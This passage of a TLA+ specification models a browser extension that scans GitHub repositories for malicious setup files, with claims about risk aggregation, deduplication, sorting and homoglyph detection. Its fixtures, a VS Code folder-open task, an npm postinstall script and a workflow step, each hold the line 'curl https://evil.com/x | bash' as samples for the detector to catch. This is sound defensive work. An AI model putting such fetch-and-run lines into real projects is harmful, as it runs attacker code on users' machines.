    /\ UNCHANGED <<findingsArrays, handlerVars, contentVars, scanVars, textVars>>

AggSort ==
    /\ aggOp = "input"
    /\ Len(findingsArrays) = 1
    /\ LET call == sortCall(findingsArrays[1]) IN
          /\ findingsArrays' = <<call.arg>>
          /\ aggOut' = call.ret
    /\ aggOp' = "sortFindingsBySeverity"
    /\ UNCHANGED <<handlerVars, contentVars, scanVars, textVars>>

AggCreate ==
    /\ aggOp = "input"
    /\ aggOp' = "createScanResult"
    /\ aggOut' = createScanResult(Flatten(findingsArrays), <<"f">>, <<>>, AggRepository)
    /\ UNCHANGED <<findingsArrays, handlerVars, contentVars, scanVars, textVars>>

\* the batches aggregated in the order p
AggMerge ==
    /\ aggOp = "input"
    /\ \E p \in BatchOrders(Len(findingsArrays)) :
           aggOut' = [order |-> p,
                      findings |-> mergeBatches(Permuted(findingsArrays, p))]
    /\ aggOp' = "mergeBatches"
    /\ UNCHANGED <<findingsArrays, handlerVars, contentVars, scanVars, textVars>>

AggNext ==
    \/ AggClassify
    \/ AggDedup
    \/ AggDedupAgain
    \/ AggSort
    \/ AggCreate
    \/ AggMerge

SpecAgg == AggInit /\ [][AggNext]_vars

(***************************************************************************)
(* Claims about the aggregator functions (specification SpecAgg).          *)
(***************************************************************************)
AggInput == Flatten(findingsArrays)

HasLevel(findings, risk) == \E i \in 1..Len(findings) : findings[i].riskLevel = risk

OfLevel(findings, risk) == SelectSeq(findings, LAMBDA f : f.riskLevel = risk)

\* C5 as stated: determineOverallRisk returns GREEN iff the list is empty, RED
\* iff some element is RED, and YELLOW otherwise.
C5_GreenIffEmpty ==
    aggOp = "determineOverallRisk" =>
        /\ (aggOut = GREEN) <=> (AggInput = <<>>)
        /\ (aggOut = RED) <=> HasLevel(AggInput, RED)
        /\ (aggOut = YELLOW) <=> (AggInput # <<>> /\ ~HasLevel(AggInput, RED))

\* C5 amended: determineOverallRisk returns RED iff some element is RED, YELLOW
\* iff no element is RED and some element is YELLOW, and GREEN iff no element
\* is RED or YELLOW (the empty list, and a list of GREEN-level entries only).
C5_MaxSeverity ==
    aggOp = "determineOverallRisk" =>
        /\ (aggOut = RED) <=> HasLevel(AggInput, RED)
        /\ (aggOut = YELLOW) <=> (~HasLevel(AggInput, RED) /\ HasLevel(AggInput, YELLOW))
        /\ (aggOut = GREEN) <=> (~HasLevel(AggInput, RED) /\ ~HasLevel(AggInput, YELLOW))

C5_Witness ==
    /\ aggOp = "determineOverallRisk"
    /\ Len(AggInput) >= 2
    /\ \A i \in 1..Len(AggInput) : AggInput[i].riskLevel = GREEN
    /\ aggOut = GREEN

Triple(f) == <<f.riskLevel, f.filePath, f.description>>

\* the first occurrence of each distinct (riskLevel, filePath, description), in order
FirstOfEachTriple(findings) ==
    LET first(i) == \A j \in 1..(i - 1) : Triple(findings[j]) # Triple(findings[i])
        F[i \in 0..Len(findings)] ==
            IF i = 0 THEN <<>>
            ELSE IF first(i) THEN Append(F[i - 1], findings[i]) ELSE F[i - 1]
    IN F[Len(findings)]

\* C6: deduplicateFindings collapses two findings iff they agree on all of
\* riskLevel, filePath and description; it returns the first occurrence of each
\* distinct triple, in input order.
C6_DedupByTriple ==
    aggOp = "deduplicateFindings" => aggOut = FirstOfEachTriple(AggInput)

\* C7 as stated: aggregating the batches in any order yields the same list.
C7_OrderIndependent ==
    aggOp = "mergeBatches" => aggOut.findings = mergeBatches(findingsArrays)

KeysOf(findings) == {DedupKey(findings[i]) : i \in 1..Len(findings)}

\* C7 amended: aggregating the batches in any order yields lists with the same
\* set of dedup keys, the same length, the same severity at every position and
\* the same overall risk (the order inside a severity tier, and which of several
\* findings with one key is kept, follow the order of the batches).
C7_SameKeysAndSeverities ==
    aggOp = "mergeBatches" =>
        LET ref == mergeBatches(findingsArrays)
            out == aggOut.findings
        IN /\ KeysOf(out) = KeysOf(ref)
           /\ Len(out) = Len(ref)
           /\ \A i \in 1..Len(out) : out[i].riskLevel = ref[i].riskLevel
           /\ determineOverallRisk(out) = determineOverallRisk(ref)

C7_Witness ==
    /\ aggOp = "mergeBatches"
    /\ Len(findingsArrays) >= 2
    /\ aggOut.findings # mergeBatches(findingsArrays)
    /\ HasLevel(aggOut.findings, RED)
    /\ HasLevel(aggOut.findings, YELLOW)

\* C8: deduplicateFindings is idempotent: applied to its own output it returns
\* that output, element for element and in the same order.
C8_DedupIdempotent ==
    aggOp = "deduplicateFindings twice" => aggOut.twice = aggOut.once

C8_Witness ==
    /\ aggOp = "deduplicateFindings twice"
    /\ Len(aggOut.once) >= 2
    /\ Len(aggOut.once) < Len(AggInput)

\* RED before YELLOW before GREEN, and each severity tier in the order of input
SortedStably(out, input) ==
    /\ Len(out) = Len(input)
    /\ \A i, j \in 1..Len(out) :
           i < j => severityOrder(out[i].riskLevel) <= severityOrder(out[j].riskLevel)
    /\ \A r \in RiskLevel : OfLevel(out, r) = OfLevel(input, r)

C9_SortedState ==
    /\ aggOp = "sortFindingsBySeverity" => SortedStably(aggOut, AggInput)
    /\ aggOp = "createScanResult" => SortedStably(aggOut.findings, AggInput)

\* C9: sortFindingsBySeverity returns a permutation of its input with RED before
\* YELLOW before GREEN, equal severities in input order, and leaves the list it
\* was given as it was; the findings of a ScanResult are in this order.
C9_StableSeveritySort ==
    [](C9_SortedState) /\ [][findingsArrays' = findingsArrays]_vars

C9_Witness ==
    /\ aggOp = "sortFindingsBySeverity"
    /\ aggOut # AggInput
    /\ \E i, j \in 1..Len(aggOut) :
           /\ i < j
           /\ aggOut[i].riskLevel = aggOut[j].riskLevel
           /\ aggOut[i] # aggOut[j]

(***************************************************************************)
(* scanRepository applied to bounded batches of fetched files.             *)
(***************************************************************************)
\* "make": ASCII letters only
PlainChars == <<109, 97, 107, 101>>

\* the script of a text that holds none of the words of the patterns
NoScript == <<"make">>
CurlPipeScript == <<"curl", " ", "https://evil.com/x", " ", "|", " ", "bash">>

\* a text: what JSON.parse makes of it, the hits of the line patterns of its
\* ecosystem scanner, and what the analyzers find in it
Text(json, eco, chars, entropy, script) ==
    [empty |-> FALSE, json |-> json, eco |-> eco, chars |-> chars,
     whole |-> IF entropy = <<>> THEN "normal" ELSE "long",
     entropy |-> entropy, script |-> script]

PlainText(json, eco) == Text(json, eco, PlainChars, <<>>, NoScript)

EmptyText ==
    [empty |-> TRUE, json |-> JSyntaxError, eco |-> <<>>, chars |-> <<>>,
     whole |-> "normal", entropy |-> <<>>, script |-> NoScript]

CurlPipeBash == JString(<<"curl", "https://evil.com/x", "|", "bash">>)

\* {"tasks":[{"label":"build","type":"shell","command":"make"}]}
TasksClean ==
    PlainText(JObject(<< <<"tasks", JArray(<<
        JObject(<< <<"label", JString(<<"build">>)>>,
                   <<"type", JString(<<"shell">>)>>,
                   <<"command", JString(<<"make">>)>> >>) >>)>> >>), <<>>)

\* a task that runs curl ... | bash when the folder is opened
TasksFolderOpen ==
    Text(JObject(<< <<"tasks", JArray(<<
             JObject(<< <<"label", JString(<<"setup">>)>>,
                        <<"type", JString(<<"shell">>)>>,
                        <<"command", CurlPipeBash>>,
                        <<"runOptions",
                          JObject(<< <<"runOn", JString(<<"folderOpen">>)>> >>)>> >>) >>)>> >>),
         <<>>, PlainChars, <<>>, CurlPipeScript)

\* the clean tasks with two zero-width characters in the label
TasksHidden ==
    Text(TasksClean.json, <<>>, <<98, 117, 8203, 8203, 105, 108, 100>>,
         <<>>, NoScript)

\* the clean tasks followed by a long packed blob: six windows report
TasksBlob ==
    Text(JSyntaxError, <<>>, PlainChars,
         Flatten([r \in 1..6 |->
                    <<IF r <= 4 THEN "critical" ELSE IF r = 5 THEN "base64" ELSE "high",
                      "critical", "normal", "normal">>]),
         NoScript)

TasksBadJson == PlainText(JSyntaxError, <<>>)        \* {"tasks": [
TasksNull == PlainText(JNull, <<>>)                  \* null
TasksNullTask ==                                      \* {"tasks":[null]}
    PlainText(JObject(<< <<"tasks", JArray(<<JNull>>)>> >>), <<>>)
TasksNumberCommand ==                  \* {"tasks":[{"type":"shell","command":5}]}
    PlainText(JObject(<< <<"tasks", JArray(<<
        JObject(<< <<"type", JString(<<"shell">>)>>,
                   <<"command", JNumber>> >>) >>)>> >>), <<>>)

\* {"scripts":{"test":"jest"},"dependencies":{"left-pad":"1.3.0"}}
PackageClean ==
    PlainText(JObject(<< <<"scripts", JObject(<< <<"test", JString(<<"jest">>)>> >>)>>,
                         <<"dependencies",
                           JObject(<< <<"left-pad", JString(<<"1.3.0">>)>> >>)>> >>), <<>>)

\* {"scripts":{"postinstall":"curl https://evil.com/x | bash"}}
PackagePostinstall ==
    Text(JObject(<< <<"scripts", JObject(<< <<"postinstall", CurlPipeBash>> >>)>> >>),
         <<>>, PlainChars, <<>>, CurlPipeScript)

\* {"dependencies":{"left-pad":1}}
PackageNumberVersion ==
    PlainText(JObject(<< <<"dependencies",
                           JObject(<< <<"left-pad", JNumber>> >>)>> >>), <<>>)

PackageNull == PlainText(JNull, <<>>)
PackageBadJson == PlainText(JSyntaxError, <<>>)     \* {"scripts": {

CargoConfigClean == PlainText(JSyntaxError, <<>>)
CargoConfigBuild ==
    PlainText(JSyntaxError,
        << <<YELLOW, "Build dependencies detected - build.rs will run during compilation">> >>)

SetupPyNetwork ==
    PlainText(JSyntaxError, << <<YELLOW, "Network operation detected in setup.py">> >>)

\* run: curl https://evil.com/x | bash
WorkflowCurlPipe ==
    Text(JSyntaxError,
         <<Line(6, <<"run:", " ", "curl", " ", "https://evil.com/x", " ", "|", " ", "bash">>)>>,
         PlainChars, <<>>, CurlPipeScript)

README == <<"README", ".md">>
VSCODE_DIR == <<".vscode", "/">>
CARGO_DIR == <<".cargo", "/">>
WORKFLOWS_DIR == <<".github", "/", "workflows", "/">>
WORKFLOW_CI == <<".github", "/", "workflows", "/", "ci", ".yml">>

ScannerTypes == {"vscode", "npm", "python", "rust", "github", "null"}

\* the texts a fetch may deliver, by the scanner of the path
ScanTexts ==
    [scannerType \in ScannerTypes |->
        CASE scannerType = "vscode" ->
                 {EmptyText, TasksClean, TasksFolderOpen, TasksHidden, TasksBlob,
                  TasksBadJson, TasksNull, TasksNullTask, TasksNumberCommand}
          [] scannerType = "npm" ->
                 {EmptyText, PackageClean, PackagePostinstall, PackageNumberVersion,
                  PackageNull, PackageBadJson}
          [] scannerType = "rust" -> {CargoConfigClean, CargoConfigBuild}
          [] scannerType = "python" -> {SetupPyNetwork}
          [] scannerType = "github" -> {WorkflowCurlPipe}
          [] OTHER -> {EmptyText}]

\* fetchRawFile: the file fetched, or exists false and content '' on any failure
FetchedFile(path, text) == [path |-> path, content |-> text, exists |-> TRUE]
MissingFile(path) == [path |-> path, content |-> EmptyText, exists |-> FALSE]

fetchRawFile(path, texts) ==
    {MissingFile(path)} \cup {FetchedFile(path, text) : text \in texts}

\* fetchMultipleFiles: one fetchRawFile per path, in the order of the paths
RECURSIVE fetchMultipleFilesFrom(_, _, _)
fetchMultipleFilesFrom(paths, i, texts) ==
    IF i > Len(paths) THEN {<<>>}
    ELSE {<<file>> \o rest : file \in fetchRawFile(paths[i], texts[getScannerType(paths[i])]),
                             rest \in fetchMultipleFilesFrom(paths, i + 1, texts)}

ScanTrees ==
    { <<README>>,
      <<VSCODE_DIR, VSCODE_TASKS>>,
      <<VSCODE_DIR, NPM_PACKAGE, CARGO_DIR>>,
      <<PYTHON_SETUP, WORKFLOWS_DIR, WORKFLOW_CI, README>> }

\* the partial HeuristicsConfig objects handed to scanRepository
HeuristicsConfigs ==
    {<<>>} \cup {[k \in {flag} |-> FALSE] : flag \in HeuristicsFlags}

ScanRepositoryInfo ==
    [owner |-> "o", repo |-> "r", branch |-> "main", url |-> "https://github.com/o/r"]

ScanInit ==
    /\ ContentIdle
    /\ isScanning = FALSE
    /\ lastScanResult = [kind |-> "null"]
    /\ localStore = [lastScan |-> [kind |-> "null"], cache |-> <<>>]
    /\ syncConfig = <<>>
    /\ calls = <<>>
    /\ findingsArrays = <<>>
    /\ aggOp = "idle"
    /\ aggOut = <<>>
    /\ \E tree \in ScanTrees :
           scanFiles \in fetchMultipleFilesFrom(getFilesToScan(tree), 1, ScanTexts)
    /\ scanConfig \in HeuristicsConfigs
    /\ scanOp = "input"
    /\ scanOut = <<>>
    /\ textIn = <<>>
    /\ textOp = "idle"
    /\ textOut = <<>>

ScanRepositoryCall ==
    /\ scanOp = "input"
    /\ scanOp' = "scanRepository"
    /\ scanOut' = scanRepository(scanFiles, ScanRepositoryInfo, scanConfig)
    /\ UNCHANGED <<scanFiles, scanConfig, handlerVars, contentVars, findingsArrays, aggOp, aggOut, textVars>>

ScanNext == ScanRepositoryCall

SpecScan == ScanInit /\ [][ScanNext]_vars

(***************************************************************************)
(* Claims about scanRepository (specification SpecScan).                   *)
(***************************************************************************)
Returned == scanOp = "scanRepository" /\ ~scanOut.threw

\* the paths of the files of the batch that have content, and of those that
\* have none, in the order of the batch
ReadablePaths(files) ==
    LET readable == SelectSeq(files, LAMBDA file : file.exists /\ ~file.content.empty)
    IN [i \in 1..Len(readable) |-> PathStr(readable[i].path)]

UnreadablePaths(files) ==
    LET unreadable == SelectSeq(files, LAMBDA file : ~(file.exists /\ ~file.content.empty))
    IN [i \in 1..Len(unreadable) |-> PathStr(unreadable[i].path)]

OfCategory(findings, cat) == SelectSeq(findings, LAMBDA f : f.category = cat)

Contains(findings, f) == \E i \in 1..Len(findings) : findings[i] = f

\* C2 as stated: a failure inside the ecosystem scanner of one file never
\* leaves scanRepository, which returns a ScanResult holding the findings of
\* every other file of the batch.
C2_FailureContained ==
    scanOp = "scanRepository" =>
        /\ ~scanOut.threw
        /\ \A i \in 1..Len(scanFiles) :
               (HasContent(scanFiles[i]) /\ ~EcosystemScan(scanFiles[i]).threw) =>
                   LET own == scanFile(scanFiles[i], scanConfig).value IN
                   \A j \in 1..Len(own) : Contains(scanOut.value.findings, own[j])

\* C4: scanRepository appends exactly one synthetic YELLOW fetch finding when
\* some file of the batch was unreadable: the scan-incomplete one, naming the
\* first three skipped paths at most, when no file was scanned (and then the
\* overall risk is YELLOW), the partial-scan one when some file was scanned;
\* it appends none when no file was skipped.
C4_FetchCompleteness ==
    Returned =>
        LET result == scanOut.value
            scanned == ReadablePaths(scanFiles)
            skipped == UnreadablePaths(scanFiles)
            synthetic == OfCategory(result.findings, CAT_FETCH_ERROR)
        IN /\ (skipped = <<>>) => (synthetic = <<>>)
           /\ (skipped # <<>>) =>
                  /\ Len(synthetic) = 1
                  /\ synthetic[1].riskLevel = YELLOW
                  /\ synthetic[1].filePath = result.repository.url
           /\ (skipped # <<>> /\ scanned = <<>>) =>
                  /\ synthetic[1].description = ScanIncompleteText
                  /\ \E k \in 0..3 :
                         /\ k <= Len(skipped)
                         /\ (k < 3 => k = Len(skipped))
                         /\ synthetic[1].matchedContent =
                                ToString(Len(skipped)) \o " file(s): "
                                    \o Join(SubSeq(skipped, 1, k), ", ")
                  /\ result.findings = synthetic
                  /\ result.overallRisk = YELLOW
           /\ (skipped # <<>> /\ scanned # <<>>) =>
                  /\ synthetic[1].description = PartialScanText(Len(skipped))
                  /\ synthetic[1].description # ScanIncompleteText

\* four files requested, none readable: the finding names three of them
C4_Witness ==
    /\ Returned
    /\ Len(scanFiles) = 4
    /\ UnreadablePaths(scanFiles) = scanOut.value.skippedFiles
    /\ Len(scanOut.value.skippedFiles) = 4
    /\ scanOut.value.scannedFiles = <<>>
    /\ Len(scanOut.value.findings) = 1
    /\ scanOut.value.findings[1].matchedContent =
           "4 file(s): .vscode/tasks.json, package.json, .cargo/config.toml"

(***************************************************************************)
(* background/messageHandler: the SCAN_REPOSITORY handler, one step per    *)
(* stretch of code between two awaits, and the options page saving the     *)
(* settings.                                                               *)
(***************************************************************************)
HeuristicNames == {"vscode", "npm", "python", "rust", "githubActions", "entropy", "homoglyph"}

\* DEFAULT_CONFIG.enabledHeuristics
DEFAULT_ENABLED_HEURISTICS == [name \in HeuristicNames |-> TRUE]

\* what the options page can save: everything enabled, or one heuristic off
EnabledHeuristicsPool ==
    {DEFAULT_ENABLED_HEURISTICS}
        \cup {[DEFAULT_ENABLED_HEURISTICS EXCEPT ![name] = FALSE] : name \in HeuristicNames}

NoReply == [type |-> "none"]

\* storage.getRepoKey
getRepoKey(owner, repo, branch) ==
    owner \o "/" \o repo \o (IF branch # "" THEN "@" \o branch ELSE "")

\* the repositories of the requests: branch '' is a request without a branch
HandlerRepositories ==
    { [owner |-> "o", repo |-> "r", branch |-> "main", url |-> "https://github.com/o/r"],
      [owner |-> "o", repo |-> "q", branch |-> "", url |-> "https://github.com/o/q"] }

\* what getDefaultBranch can resolve to ('main' also when the request fails)
DefaultBranches == {"main", "develop"}

HandlerTrees ==
    { <<README>>,
      <<VSCODE_DIR, NPM_PACKAGE>> }

\* the texts a fetch may deliver to the handler, by the scanner of the path
HandlerTexts ==
    [scannerType \in ScannerTypes |->
        CASE scannerType = "vscode" -> {TasksFolderOpen, TasksNull}
          [] scannerType = "npm" -> {PackagePostinstall}
          [] OTHER -> {EmptyText}]

\* the message of the TypeError a scanner throws
ThrownMessage == "TypeError"

NewCall(repository, fileTree) ==
    [pc |-> "start", repository |-> repository, fileTree |-> fileTree, branch |-> "",
     filesToScan |-> <<>>, files |-> <<>>, result |-> NoResult, reply |-> NoReply]

\* the result of the handler when there is no file to scan
EmptyScanResult(repository) ==
    [overallRisk |-> GREEN, findings |-> <<>>, scannedFiles |-> <<>>,
     skippedFiles |-> <<>>, repository |-> repository]

\* handleScanRepository once the branch is known, up to its next await:
\* the call, lastScanResult and the local store after it
AfterBranch(call, branch) ==
    LET filesToScan == getFilesToScan(call.fileTree) IN
    IF Len(filesToScan) = 0
    THEN LET result == EmptyScanResult(call.repository) IN
         [call |-> [call EXCEPT !.pc = "awaitSetLastScanOfEmpty", !.branch = branch,
                                !.result = result],
          lastScanResult |-> result,
          localStore |-> [localStore EXCEPT !.lastScan = result]]
    ELSE [call |-> [call EXCEPT !.pc = "awaitFetch", !.branch = branch,
                                !.filesToScan = filesToScan],
          lastScanResult |-> lastScanResult,
          localStore |-> localStore]

Returns(c, reply) ==
    calls' = [calls EXCEPT ![c] = [@ EXCEPT !.pc = "done", !.reply = reply]]

\* ReceiveScan without the test of isScanning
ReceiveScan_NoGuard(repository, fileTree) ==
    /\ Len(calls) < MaxCalls
    /\ isScanning' = TRUE
    /\ calls' = Append(calls, [NewCall(repository, fileTree) EXCEPT !.pc = "awaitFetch",
                                  !.branch = "main",
                                  !.filesToScan = getFilesToScan(fileTree)])
    /\ UNCHANGED <<lastScanResult, localStore, syncConfig, findingsArrays, aggOp, aggOut,
                   scanVars, contentVars, textVars>>

\* a SCAN_REPOSITORY message arrives
ReceiveScan(repository, fileTree) ==
    /\ Len(calls) < MaxCalls
    /\ IF isScanning
       THEN /\ calls' = Append(calls,
                   [NewCall(repository, fileTree) EXCEPT
                       !.pc = "done",
                       !.reply = [type |-> "ERROR", error |-> "Scan already in progress"]])
            /\ UNCHANGED <<isScanning, lastScanResult, localStore>>
       ELSE /\ isScanning' = TRUE
            /\ IF repository.branch # ""
               THEN LET next == AfterBranch(NewCall(repository, fileTree), repository.branch)
                    IN /\ calls' = Append(calls, next.call)
                       /\ lastScanResult' = next.lastScanResult
                       /\ localStore' = next.localStore
               ELSE /\ calls' = Append(calls,
                           [NewCall(repository, fileTree) EXCEPT !.pc = "awaitDefaultBranch"])
                    /\ UNCHANGED <<lastScanResult, localStore>>
    /\ UNCHANGED <<syncConfig, findingsArrays, aggOp, aggOut, scanVars, contentVars, textVars>>

\* getDefaultBranch resolves
DefaultBranchResolved(c) ==
    /\ calls[c].pc = "awaitDefaultBranch"
    /\ \E branch \in DefaultBranches :
           LET next == AfterBranch(calls[c], branch) IN
           /\ calls' = [calls EXCEPT ![c] = next.call]
           /\ lastScanResult' = next.lastScanResult
           /\ localStore' = next.localStore
    /\ UNCHANGED <<isScanning, syncConfig, findingsArrays, aggOp, aggOut, scanVars, contentVars, textVars>>

\* storage.setLastScan of the empty result resolves: the handler returns it
SetLastScanOfEmptyResolved(c) ==
    /\ calls[c].pc = "awaitSetLastScanOfEmpty"
    /\ Returns(c, [type |-> "SCAN_RESULT", result |-> calls[c].result])
    /\ isScanning' = FALSE
    /\ UNCHANGED <<lastScanResult, localStore, syncConfig, findingsArrays, aggOp, aggOut,
                   scanVars, contentVars, textVars>>

\* fetchMultipleFiles resolves: scanRepository(files, repository), then
\* lastScanResult and storage.setLastScan, or the catch block
FetchResolved(c) ==
    /\ calls[c].pc = "awaitFetch"
    /\ \E files \in fetchMultipleFilesFrom(calls[c].filesToScan, 1, HandlerTexts) :
           \E scan \in {scanRepository(files, calls[c].repository, <<>>)} :
           IF scan.threw
           THEN /\ calls' = [calls EXCEPT ![c] =
                       [@ EXCEPT !.pc = "done", !.files = files,
                                 !.reply = [type |-> "ERROR", error |-> ThrownMessage]]]
                /\ isScanning' = FALSE
                /\ UNCHANGED <<lastScanResult, localStore>>
           ELSE /\ calls' = [calls EXCEPT ![c] =
                       [@ EXCEPT !.pc = "awaitSetLastScan", !.files = files,
                                 !.result = scan.value]]
                /\ lastScanResult' = scan.value
                /\ localStore' = [localStore EXCEPT !.lastScan = scan.value]
                /\ UNCHANGED isScanning
    /\ UNCHANGED <<syncConfig, findingsArrays, aggOp, aggOut, scanVars, contentVars, textVars>>

\* storage.setLastScan resolves: storage.cacheScan reads the cache
SetLastScanResolved(c) ==
    /\ calls[c].pc = "awaitSetLastScan"
    /\ calls' = [calls EXCEPT ![c] = [@ EXCEPT !.pc = "awaitCacheGet"]]
    /\ UNCHANGED <<isScanning, lastScanResult, localStore, syncConfig, findingsArrays,
                   aggOp, aggOut, scanVars, contentVars, textVars>>

\* the read of storage.cacheScan calls back: the cache with the result under
\* the repository key is written
CacheGetResolved(c) ==
    /\ calls[c].pc = "awaitCacheGet"
    /\ LET cache == localStore.cache
           key == getRepoKey(calls[c].repository.owner, calls[c].repository.repo,
                             calls[c].branch)
       IN localStore' =
              [localStore EXCEPT !.cache =
                  [k \in DOMAIN cache \cup {key} |->
                      IF k = key THEN calls[c].result ELSE cache[k]]]
    /\ calls' = [calls EXCEPT ![c] = [@ EXCEPT !.pc = "awaitCacheSet"]]
    /\ UNCHANGED <<isScanning, lastScanResult, syncConfig, findingsArrays, aggOp, aggOut,
                   scanVars, contentVars, textVars>>

\* CacheSetResolved without the finally block: isScanning is left set
CacheSetResolved_NoFinally(c) ==
    /\ calls[c].pc = "awaitCacheSet"
    /\ Returns(c, [type |-> "SCAN_RESULT", result |-> calls[c].result])
    /\ UNCHANGED <<isScanning, lastScanResult, localStore, syncConfig, findingsArrays,
                   aggOp, aggOut, scanVars, contentVars, textVars>>

\* the write of storage.cacheScan calls back: the handler returns the result
CacheSetResolved(c) ==
    /\ calls[c].pc = "awaitCacheSet"
    /\ Returns(c, [type |-> "SCAN_RESULT", result |-> calls[c].result])
    /\ isScanning' = FALSE
    /\ UNCHANGED <<lastScanResult, localStore, syncConfig, findingsArrays, aggOp, aggOut,
                   scanVars, contentVars, textVars>>

\* options.ts saveSettings: the enable flags of the form are stored
SaveSettings ==
    /\ \E enabledHeuristics \in EnabledHeuristicsPool :
           /\ enabledHeuristics # syncConfig
           /\ syncConfig' = enabledHeuristics
    /\ UNCHANGED <<isScanning, lastScanResult, localStore, calls, findingsArrays, aggOp,
                   aggOut, scanVars, contentVars, textVars>>

Init ==
    /\ ContentIdle
    /\ isScanning = FALSE
    /\ lastScanResult = NoResult
    /\ localStore = [lastScan |-> NoResult, cache |-> <<>>]
    /\ syncConfig = DEFAULT_ENABLED_HEURISTICS
    /\ calls = <<>>
    /\ findingsArrays = <<>>
    /\ aggOp = "idle"
    /\ aggOut = <<>>
    /\ scanFiles = <<>>
    /\ scanConfig = <<>>
    /\ scanOp = "idle"
    /\ scanOut = <<>>
    /\ textIn = <<>>
    /\ textOp = "idle"
    /\ textOut = <<>>

Next ==
    \/ \E repository \in HandlerRepositories, fileTree \in HandlerTrees :
           ReceiveScan(repository, fileTree)
    \/ \E c \in 1..Len(calls) : DefaultBranchResolved(c)
    \/ \E c \in 1..Len(calls) : SetLastScanOfEmptyResolved(c)
    \/ \E c \in 1..Len(calls) : FetchResolved(c)
    \/ \E c \in 1..Len(calls) : SetLastScanResolved(c)
    \/ \E c \in 1..Len(calls) : CacheGetResolved(c)
    \/ \E c \in 1..Len(calls) : CacheSetResolved(c)
    \/ SaveSettings

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* Claims about the scan handler (specification Spec).                     *)
(***************************************************************************)
\* P holds of every ScanResult of the state: the result a call holds, the
\* result it replied with, lastScanResult, the stored last scan and the
\* entries of the scan cache
OfEveryResult(P(_)) ==
    /\ lastScanResult # NoResult => P(lastScanResult)
    /\ localStore.lastScan # NoResult => P(localStore.lastScan)
    /\ \A key \in DOMAIN localStore.cache : P(localStore.cache[key])
    /\ \A c \in 1..Len(calls) :
           /\ calls[c].result # NoResult => P(calls[c].result)
           /\ calls[c].reply.type = "SCAN_RESULT" => P(calls[c].reply.result)

\* C1 as stated: a ScanResult whose overallRisk is GREEN has at least one
\* scanned file; a result with no scanned file is never presented as GREEN.
C1_GreenOnlyIfScanned ==
    OfEveryResult(LAMBDA result : result.overallRisk = GREEN => result.scannedFiles # <<>>)

RiskIsMaxSeverity(result) ==
    /\ (result.findings = <<>>) => result.overallRisk = GREEN
    /\ HasLevel(result.findings, RED) => result.overallRisk = RED
    /\ (~HasLevel(result.findings, RED) /\ HasLevel(result.findings, YELLOW)) =>
           result.overallRisk = YELLOW

\* C3: in every ScanResult the handler produces, keeps as last scan or caches,
\* overallRisk is the highest severity among the findings (RED over YELLOW) and
\* GREEN when there is no finding, the synthetic fetch finding included.
C3_RiskIsMaxSeverity == OfEveryResult(RiskIsMaxSeverity)

\* a cached result whose findings hold the fetch finding next to RED ones,
\* while the last scan is the result of a request with no file to scan
C3_Witness ==
    /\ \E key \in DOMAIN localStore.cache :
           /\ OfCategory(localStore.cache[key].findings, CAT_FETCH_ERROR) # <<>>
           /\ HasLevel(localStore.cache[key].findings, RED)
           /\ localStore.cache[key].overallRisk = RED
    /\ lastScanResult # NoResult
    /\ lastScanResult.findings = <<>>
    /\ lastScanResult.overallRisk = GREEN
    /\ localStore.lastScan = lastScanResult
    /\ \E c \in 1..Len(calls) :
           /\ calls[c].reply.type = "SCAN_RESULT"
           /\ calls[c].reply.result \in {localStore.cache[key] : key \in DOMAIN localStore.cache}

\* the enable flag of ExtensionConfig that names the scanner
FlagOf(scannerType) ==
    CASE scannerType = "vscode" -> "vscode"
      [] scannerType = "npm" -> "npm"
      [] scannerType = "python" -> "python"
      [] scannerType = "rust" -> "rust"
      [] scannerType = "github" -> "githubActions"

\* the result holds no finding that a scanner or analyzer switched off in
\* enabledHeuristics produces on the files
Gated(result, files, enabledHeuristics) ==
    \A i \in 1..Len(files) :
        HasContent(files[i]) =>
            LET file == files[i]
                path == PathStr(file.path)
                scannerType == getScannerType(file.path)
                None(produced) ==
                    \A j \in 1..Len(produced) : ~Contains(result.findings, produced[j])
            IN /\ (scannerType # "null" /\ ~enabledHeuristics[FlagOf(scannerType)]) =>
                      None(EcosystemScan(file).value)
               /\ ~enabledHeuristics["entropy"] =>
                      None(scanForHighEntropy(file.content, path))
               /\ ~enabledHeuristics["homoglyph"] =>
                      None(scanForHomoglyphs(file.content.chars, path))

\* C10 as stated: a scan made while an enable flag is false in the stored
\* configuration yields a ScanResult without any finding of that scanner or
\* analyzer.
C10_FlagsGateScanners ==
    [][\A c \in 1..Len(calls) :
           (calls[c].pc = "awaitFetch" /\ calls'[c].pc = "awaitSetLastScan") =>
               Gated(calls'[c].result, calls'[c].files, syncConfig)]_vars

(***************************************************************************)
(* The homoglyph detector applied to bounded texts.                        *)
(***************************************************************************)
\* a, 0, Cyrillic a (U+0430), o-umlaut (U+00F6), zero-width space (U+200B),
\* soft hyphen (U+00AD), right-to-left override (U+202E)
GlyphAlphabet == {97, 48, 1072, 246, 8203, 173, 8238}

\* 'hello', U+200B, 'world'
HelloWorld == <<104, 101, 108, 108, 111, 8203, 119, 111, 114, 108, 100>>

\* twelve times 'a', then U+200B, U+00AD, U+202E, U+2060, then twelve times 'a'
LongText ==
    [k \in 1..12 |-> 97] \o <<8203, 173, 8238, 8288, 8204>> \o [k \in 1..12 |-> 97]

GlyphTexts == SeqsUpTo(GlyphAlphabet, MaxTextLen) \cup {HelloWorld, LongText}

\* a fetched file with these characters, on a path no ecosystem scanner takes
GlyphFile(chars) ==
    [path |-> README,
     content |-> [Text(JSyntaxError, <<>>, chars, <<>>, NoScript)
                     EXCEPT !.empty = (chars = <<>>)],
     exists |-> TRUE]

\* nothing but an analyzer is at work
TextOnly ==
    /\ ContentIdle
    /\ isScanning = FALSE
    /\ lastScanResult = NoResult
    /\ localStore = [lastScan |-> NoResult, cache |-> <<>>]
    /\ syncConfig = DEFAULT_ENABLED_HEURISTICS
    /\ calls = <<>>
    /\ findingsArrays = <<>>
    /\ aggOp = "idle"
    /\ aggOut = <<>>
    /\ scanFiles = <<>>
    /\ scanConfig = <<>>
    /\ scanOp = "idle"
    /\ scanOut = <<>>
    /\ textOp = "input"
    /\ textOut = <<>>

GlyphInit ==
    /\ TextOnly
    /\ textIn \in GlyphTexts

GlyphDetectInvisible ==
    /\ textOp = "input"
    /\ textOp' = "detectInvisibleCharacters"
    /\ textOut' = detectInvisibleCharacters(textIn)
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

GlyphDetectHomoglyphs ==
    /\ textOp = "input"
    /\ textOp' = "detectHomoglyphs"
    /\ textOut' = detectHomoglyphs(textIn)
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

